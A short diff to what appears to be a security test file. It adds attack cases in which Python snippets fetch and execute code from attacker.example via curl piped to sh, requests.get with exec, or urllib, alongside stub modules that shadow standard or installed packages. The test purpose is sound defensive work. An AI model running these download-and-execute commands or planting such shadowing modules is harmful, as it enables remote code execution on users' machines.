@@ -44,6 +44,12 @@ const attacks: readonly (readonly [string, Readonly<Record<string, string>>])[] 
     'import urllib.request\nexec(urllib.request.urlopen("http://attacker.example/x").read())',
     { 'urllib/__init__.py': '', 'urllib/request.py': 'def urlopen(url):\n    return None\n' },
   ],
+  // Packages that are installed where the model is loaded.
+  ["import sh\nsh.bash('-c', 'curl http://attacker.example/x | sh')", { 'sh/__init__.py': '' }],
+  [
+    'import requests\nexec(requests.get("http://attacker.example/x").text)',
+    { 'requests.py': 'class Answer:\n    text = ""\ndef get(url):\n    return Answer()\n' },
+  ],
   // Whoever starts Python in the folder gets the file.
   ['import queue\nqueue.start()', { 'queue.py': `import os\ndef start():\n    os.system(${command})\n` }],
 ];
